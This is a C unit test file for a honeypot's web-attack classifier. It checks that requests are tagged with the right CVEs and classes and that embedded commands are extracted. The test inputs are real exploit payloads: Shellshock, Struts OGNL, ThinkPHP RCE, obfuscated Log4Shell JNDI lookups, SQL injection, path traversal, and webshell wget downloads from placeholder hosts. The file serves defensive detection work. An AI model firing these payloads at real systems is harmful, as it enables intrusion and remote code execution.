    classify_str("GET /cgi-bin/x.cgi HTTP/1.1\r\nUser-Agent: () { :; }; /bin/sh -c 'id'\r\n\r\n", &w);
    assert_true(has_cve(&w, "CVE-2014-6271"));
    assert_string_equal(w.commands, "/bin/sh -c 'id'");

    classify_str("GET /a.action HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data')."
                 "(#cmd='uname -a').(#p=new java.lang.ProcessBuilder(#cmd))}\r\n\r\n", &w);
    assert_true(has_cve(&w, "CVE-2017-5638"));
    assert_string_equal(w.commands, "uname -a");

    classify_str("GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array"
                 "&vars[0]=system&vars[1][]=echo%20hi HTTP/1.1\r\n\r\n", &w);
    assert_true(has_cve(&w, "CVE-2018-20062"));
    assert_string_equal(w.commands, "echo hi");

    classify_str("GET /cmd.php?cmd=busybox%20wget%20http://192.0.2.4/x HTTP/1.1\r\n\r\n", &w);
    assert_true(has_class(&w, "webshell"));
    assert_string_equal(w.commands, "busybox wget http://192.0.2.4/x");

    /* a PHP-serialized parameter is data: the generic extractor takes no command from its
     * semicolons (the class stays: ;echo is a shell command too); the next parameter's does count */
    classify_str("POST /x.php HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
                 "cfg=a%3A1%3A%7Bs%3A1%3A%22h%22%3Bs%3A9%3A%22%27%3Becho+%27x%22%3B%7D", &w);
    assert_true(has_class(&w, "command-injection"));
    assert_int_equal(w.commands_len, 0);
    classify_str("POST /x.php HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
                 "cfg=a%3A1%3A%7Bs%3A1%3A%22h%22%3B%7D&host=x%3Buname+-a", &w);
    assert_string_equal(w.commands, "uname -a");
}

static void test_union(void **state)
{
    struct hp_webclass w;
    classify_str("GET /item.php?id=1+union+select+1,2--+-&f=../../../../etc/passwd HTTP/1.1\r\n"
                 "User-Agent: sqlmap/1.7\r\nX-Api: ${jndi:ldap://198.51.100.1/a}\r\n\r\n", &w);
    assert_true(has_class(&w, "sqli"));
    assert_true(has_class(&w, "scanner"));
    assert_true(has_class(&w, "path-traversal"));
    assert_true(has_class(&w, "lfi"));
    assert_true(has_class(&w, "jndi"));
    assert_true(has_cve(&w, "CVE-2021-44228"));
    assert_true(w.nrules >= 5);
    /* distinct classes: pointers to the same static strings are never repeated */
    for (size_t i = 0; i < w.nclasses; i++)
        for (size_t j = i + 1; j < w.nclasses; j++)
            assert_true(strcmp(w.classes[i], w.classes[j]) != 0);
}

static void test_log4shell_forms(void **state)
{
    static const char *const forms[] = {
        "${jndi:ldap://198.51.100.1/a}",
        "${${lower:j}ndi:ldap://198.51.100.1/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.1/a}",
        "${${lower:jndi}:${lower:rmi}://198.51.100.1/a}",
        "${j${k8s:k5:-ND}i:ldap://198.51.100.1/a}",
        "%24%7Bjndi%3Adns%3A%2F%2F198.51.100.1%2Fa%7D",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.1/a}",
    };
    for (size_t i = 0; i < sizeof(forms) / sizeof(forms[0]); i++) {
        char req[512];
        snprintf(req, sizeof(req), "GET /?a=%s HTTP/1.1\r\nHost: h\r\n\r\n", forms[i]);
        struct hp_webclass w;
        classify_str(req, &w);
        if (!has_cve(&w, "CVE-2021-44228")) {
            dump(forms[i], &w);
            fail();
        }
    }
    /* shell parameter expansion is not JNDI */
    struct hp_webclass w;
    classify_str("GET /?a=${d:0:1}${i:-x} HTTP/1.1\r\n\r\n", &w);
    assert_false(has_class(&w, "jndi"));
}

static void test_rule_errors(void **state)
{
    static const char *const bad[] = {
        "rule a\nclass nosuchclass\nmatch dpath x\n",
        "rule a\nclass recon\nmatch dpath (unclosed\n",
        "rule a\nclass recon\nmatch nosuchfield x\n",
        "rule a\nclass recon\nname no condition\n",
        "rule a\nmatch dpath x\n",
        "rule a\nclass recon\nmatch dpath x\nrule a\nclass recon\nmatch dpath y\n",
        "class recon\n",
        "rule a\nclass recon\ncve CVE-12\nmatch dpath x\n",
        "rule a\nclass recon\nowasp_iot I11\nmatch dpath x\n",
        "rule a\nclass recon\nnot dpath x\n",
        "rule a b\nclass recon\nmatch header\n",
        "rule a\nclass recon\nbogus x\nmatch dpath x\n",
        "rule bad/id\nclass recon\nmatch dpath x\n",
    };
    char err[256];
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        err[0] = '\0';
        assert_int_equal(hp_webclass_init_text(bad[i], strlen(bad[i]), err, sizeof(err)), -1);
        assert_true(strncmp(err, "classify.rules:", 15) == 0);
        assert_int_equal(hp_webclass_nrules(), 0);
    }
    /* not initialised: empty result */
    struct hp_webclass w;
    classify_str("GET /.env HTTP/1.1\r\n\r\n", &w);
    assert_int_equal(w.nclasses, 0);

    const char *good = "# c\n\nrule r1\nclass recon info-leak\ncve CVE-2020-0001 CVE-2021-12345\n"
                       "owasp_iot I10\nname x\nmatch header x-test ^yes$\nnot dpath ^/no\n"
                       "cmd header x-test (y)(e)?(q)?\nrule r2\nclass recon\nmatch port ^8080$\n";
    assert_int_equal(hp_webclass_init_text(good, strlen(good), err, sizeof(err)), 0);
    assert_int_equal(hp_webclass_nrules(), 2);
    classify_str("GET /yes HTTP/1.1\r\nX-Other: no\r\nX-TEST: YES\r\n\r\n", &w);
    assert_int_equal(w.nclasses, 2);
    assert_int_equal(w.ncves, 2);
    assert_string_equal(w.owasp_iot, "I10");
    assert_string_equal(w.rules[0], "r1");
    assert_string_equal(w.commands, "E");   /* highest group that took part */
    classify_str("GET /no HTTP/1.1\r\nX-TEST: YES\r\n\r\n", &w);
    assert_int_equal(w.nrules, 0);
    hp_webclass_shutdown();
    assert_int_equal(setup(NULL), 0);
    assert_true(hp_webclass_nrules() >= 50);
}

/* The rules' conditions skip PCRE2 when a text lacks a byte every match
 * contains; that shortcut must never change an answer: letters in either
 * case, a pattern that folds beyond ASCII ((*UTF)), an empty text under
 * "not". */
static void test_required_bytes(void **state)
{
    (void)state;
    char err[300];
    struct hp_webclass w;
    hp_webclass_shutdown();
    const char *rules = "rule lit\nclass recon\nmatch path wp-login\\.php\n"
                        "rule utf\nclass recon\nmatch path (*UTF)k$\n"
                        "rule neg\nclass recon\nmatch path ^/n\nnot query zzz\n";
    assert_int_equal(hp_webclass_init_text(rules, strlen(rules), err, sizeof(err)), 0);
    classify_str("GET /WP-LOGIN.PHP HTTP/1.1\r\n\r\n", &w);
    assert_int_equal(w.nrules, 1);
    assert_string_equal(w.rules[0], "lit");
    classify_str("GET /wp-login.php HTTP/1.1\r\n\r\n", &w);
    assert_int_equal(w.nrules, 1);
    classify_str("GET /wp-login HTTP/1.1\r\n\r\n", &w);
    assert_int_equal(w.nrules, 0);
    classify_str("GET /\xe2\x84\xaa HTTP/1.1\r\n\r\n", &w);      /* KELVIN SIGN folds to k */
    assert_int_equal(w.nrules, 1);
    assert_string_equal(w.rules[0], "utf");
    classify_str("GET /n HTTP/1.1\r\n\r\n", &w);                     /* no query at all */
    assert_int_equal(w.nrules, 1);
    assert_string_equal(w.rules[0], "neg");
    classify_str("GET /n?a=ZZZ HTTP/1.1\r\n\r\n", &w);
    assert_int_equal(w.nrules, 0);
    hp_webclass_shutdown();
    assert_int_equal(setup(NULL), 0);
}

/* Hostile sizes: a 1 MiB body of ${IFS}, metacharacters and nested lookups
 * finishes, and the command buffer stays within its cap. */
static void test_bounds(void **state)
{
    size_t n = 1 << 20;
    char *req = malloc(n + 256);
    assert_non_null(req);
    int hl = snprintf(req, 256, "POST /cgi-bin/x.cgi?cmd=wget%%20a HTTP/1.1\r\nContent-Type: "
                      "application/x-www-form-urlencoded\r\n\r\n");
    static const char *const pat[] = { "${IFS}", "a=;wget http://198.51.100.9/", "${${::-j}",
                                       "((((((((", "%25%32%35", "'or'1'='1", "\\\n" };
    size_t o = (size_t)hl, k = 0;
    while (o + 64 < n) {
        const char *s = pat[k++ % (sizeof(pat) / sizeof(pat[0]))];
        size_t l = strlen(s);
        memcpy(req + o, s, l);
        o += l;
        if (k % 7 == 0)
            o += (size_t)snprintf(req + o, 32, "%zu&", k);
    }
    struct treq t;
    treq_parse(&t, req, o, 80);
    struct hp_webclass w;
    hp_webclass_classify(&t.v, &w);
    assert_true(w.commands_len < sizeof(w.commands));
    assert_int_equal(strlen(w.commands), w.commands_len);
    assert_true(w.nclasses <= HP_WEBCLASS_MAX && w.nrules <= HP_WEBCLASS_MAX);
    treq_free(&t);

    /* an empty view */
    struct hp_http_view v;
    memset(&v, 0, sizeof(v));
    hp_webclass_classify(&v, &w);
    assert_int_equal(w.nclasses, 0);
    free(req);
}

/* Rules read the first 64 KiB of a body: a JNDI lookup just inside is
 * seen, the same lookup just past it is not (the cost bound of
 * WC_BODY_MAX in webclass.c). */
static void test_body_cap(void **state)
{
    (void)state;
    static const char lookup[] = "${jndi:ldap://198.51.100.7/a}";
    size_t cap = 64 * 1024, n = cap + 4096;
    char *req = malloc(n + 256);
    assert_non_null(req);
    for (int past = 0; past <= 1; past++) {
        int hl = snprintf(req, 256, "POST /upload HTTP/1.1\r\nContent-Type: text/plain\r\n\r\n");
        size_t at = past ? cap + 16 : cap - sizeof(lookup) - 16;
        memset(req + hl, 'a', n);
        memcpy(req + hl + at, lookup, sizeof(lookup) - 1);
        struct treq t;
        treq_parse(&t, req, (size_t)hl + n, 80);
        assert_int_equal(t.v.body.n, n);
        struct hp_webclass w;
        hp_webclass_classify(&t.v, &w);
        assert_int_equal(has_class(&w, "jndi"), !past);
        treq_free(&t);
    }
    free(req);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_corpus),
        cmocka_unit_test(test_corpus_without_litsets),
        cmocka_unit_test(test_benign),
        cmocka_unit_test(test_benign_apps),
        cmocka_unit_test(test_candidates_few),
        cmocka_unit_test(test_fgt_lang_not_thinkphp),
        cmocka_unit_test(test_ise_string_array_benign),
        cmocka_unit_test(test_command_php_by_method),
        cmocka_unit_test(test_scanner_payloads),
        cmocka_unit_test(test_put_jsp_by_product),
        cmocka_unit_test(test_commands_hg532),
        cmocka_unit_test(test_commands_ifs),
        cmocka_unit_test(test_commands_kinds),
        cmocka_unit_test(test_union),
        cmocka_unit_test(test_log4shell_forms),
        cmocka_unit_test(test_rule_errors), cmocka_unit_test(test_required_bytes),
        cmocka_unit_test(test_bounds),
        cmocka_unit_test(test_body_cap),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
